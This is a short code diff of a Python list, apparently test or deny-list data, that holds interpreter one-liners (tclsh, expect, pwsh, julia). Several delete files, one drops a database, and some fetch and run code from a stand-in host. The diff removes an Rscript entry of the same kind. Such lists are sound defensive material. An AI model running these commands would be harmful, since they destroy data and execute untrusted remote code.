@@ -75,7 +75,6 @@ LANGUAGES = [
     "tclsh <<< 'exec sh -c {rm -rf ~}'",
     "expect -c 'spawn sh -c {dropdb shop}'",
     "pwsh -Command 'bash -c \"rm -rf /etc\"'",
-    "Rscript -e 'source(\"https://x.example/a.R\")'",
     "julia -e 'include(download(\"https://x.example/a.jl\"))'",
 ]
 
